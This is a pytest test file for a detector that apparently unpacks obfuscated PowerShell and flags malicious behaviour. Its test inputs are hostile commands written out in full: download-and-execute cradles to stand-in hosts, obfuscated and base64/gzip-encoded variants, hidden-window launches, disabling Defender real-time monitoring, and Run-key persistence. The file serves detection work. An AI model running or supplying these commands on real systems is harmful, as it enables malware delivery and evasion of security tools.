"""PowerShell is unfolded and read again, however it is hidden."""

import base64
import gzip

import pytest

from pratique.code.languages import powershell, shell
from pratique.code.nested import Script
from pratique.limits import Budget, Limits
from pratique.model import Fact, Location


def look(text: str, language: str = "powershell") -> list[Fact | Script]:
    where = Location(member="a.py", line=3)
    return list(shell.facts(text, where, "import", Budget(Limits()), language))


def behaviours(text: str, language: str = "powershell") -> set[str]:
    return {item.behaviour for item in look(text, language) if isinstance(item, Fact)}


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"


@pytest.mark.parametrize(
    "text",
    [
        CRADLE,
        "I`E`X (New-Object Net.WebClient).\"Down`loadString\"('http://x.example/a')",
        "$a='Down'+'loadString'; & ('I'+'EX') ((New-Object Net.WebClient).$a('http://x.example/a'))",
        "iwr https://x.example/a.ps1 | iex",
        "Invoke-Expression (irm https://x.example/a)",
        "& ('{1}{0}' -f 'EX','I') (iwr https://x.example/a)",
        "Invoke-WebRequest https://x.example/a.exe -OutFile a.exe; Start-Process a.exe",
        "iwr -Uri https://x.example/a.exe -OutFile $env:TEMP\\a.exe\n& $env:TEMP\\a.exe",
    ],
)
def test_cradles(text: str) -> None:
    assert "exec/download-run" in behaviours(text)


@pytest.mark.parametrize("flag", ["-enc", "-EncodedCommand", "-e", "-ec", "/enc", "-eNcOd"])
def test_encoded_commands_are_read(flag: str) -> None:
    word = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    facts = [
        one
        for one in look(f"powershell.exe -nop -w hidden {flag} {word}", "shell")
        if isinstance(one, Fact)
    ]
    found = {(one.behaviour, one.location.layer) for one in facts}
    assert ("exec/download-run", "utf-16-base64") in found
    assert {"obfus/encoded-exec", "exec/silent", "exec/powershell"} <= {one for one, _ in found}


def test_compressed_layers_are_read() -> None:
    packed = base64.b64encode(gzip.compress(CRADLE.encode())).decode()
    text = (
        f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression"
        ".CompressionMode]::Decompress))).ReadToEnd()"
    )
    layers = {
        one.location.layer
        for one in look(text)
        if isinstance(one, Fact) and one.behaviour == "exec/download-run"
    }
    assert "base64/gzip" in layers


def test_folding() -> None:
    assert powershell.fold("'a'+'b' + 'c'") == "'abc'"
    assert powershell.fold("'xbc'.Replace('x','a')") == "'abc'"
    assert powershell.fold("[char]65+[char]66") == "'AB'"
    assert powershell.fold("('{1}{0}' -f 'b','a')") == "'ab'"


@pytest.mark.parametrize(
    ("text", "behaviour"),
    [
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "evade/tamper-security"),
        ("Get-ChildItem Env: | Out-File x", "creds/env-dump"),
        ("Register-ScheduledTask -TaskName x", "persist/schedule"),
        (
            "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x",
            "persist/autostart",
        ),
        ("Get-Clipboard", "collect/clipboard"),
        ("Remove-Item -Recurse C:\\x", "fs/delete"),
    ],
)
def test_cmdlets_have_meanings(text: str, behaviour: str) -> None:
    assert behaviour in behaviours(text)


def test_honest_lines_show_nothing_that_matters() -> None:
    assert behaviours("Get-Host; $PSVersionTable.PSVersion | Write-Output") == set()


@pytest.mark.parametrize(
    "text",
    [
        "Start-Process powershell -WindowStyle Hidden -ArgumentList '-c','iwr http://c2.invalid/a|iex'",
        'Start-Process -FilePath cmd.exe -Args "/c curl -s http://c2.invalid/a -o a.exe & a.exe"',
    ],
)
def test_what_a_started_interpreter_is_given_is_read(text):
    found = shell.facts(text, Location(member="x.ps1"), "install", Budget(Limits()), "powershell")
    assert "exec/download-run" in {one.behaviour for one in found if isinstance(one, Fact)}
